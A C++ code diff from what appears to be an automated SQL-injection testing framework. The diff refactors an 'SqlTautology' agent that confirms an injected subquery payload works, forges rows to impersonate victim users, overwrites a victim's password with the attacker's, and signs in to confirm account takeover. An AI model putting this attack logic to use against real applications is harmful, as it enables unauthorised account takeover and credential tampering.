@@ -93,23 +93,28 @@ class SqlTautology final : public Agent {
         std::optional<Spelling> const spelling =
             find_spelling(*oracle, "(SELECT max(41) FROM (SELECT 1 UNION SELECT 2) WHERE 1=1)");
         if (!spelling) return;
-        std::vector<Break> breaks;
         for (Break const& each : guess.breaks) {
-            if (Oracle::find(entry, own_row(target, each, attempt.column())))
-                breaks.push_back(each);
+            if (Oracle::find(entry, own_row(target, each, attempt.column())) &&
+                forge_row(attempt, each, *spelling))
+                return;
         }
+    }
+
+    static bool forge_row(Attempt const& attempt, Break const& with, Spelling const& spelling) {
+        Target& target = attempt.target;
         for (std::string const& victim : target.surface().usernames) {
             ForgedRow const forged(target, attempt.column(), victim);
-            for (std::string const& text : forged.texts(breaks, *spelling)) {
-                if (attempt.wins(victim, {attempt.username(), text})) return;
+            for (std::string const& text : forged.texts(with, spelling)) {
+                if (attempt.wins(victim, {attempt.username(), text})) return true;
             }
-            for (std::string const& text : forged.overwriting(breaks, *spelling)) {
-                attempt.wins(victim, {attempt.username(), text});
-                if (sign_in(target, {victim, target.surface().attacker.password}) &&
-                    is_now(target, victim))
-                    return;
-            }
+            auto const overwriting = forged.overwriting(with, spelling);
+            if (!overwriting) continue;
+            attempt.wins(victim, {attempt.username(), *overwriting});
+            if (sign_in(target, {victim, target.surface().attacker.password}) &&
+                is_now(target, victim))
+                return true;
         }
+        return false;
     }
 
     // Shows the session to the world, and tells from the answer whether to go on.
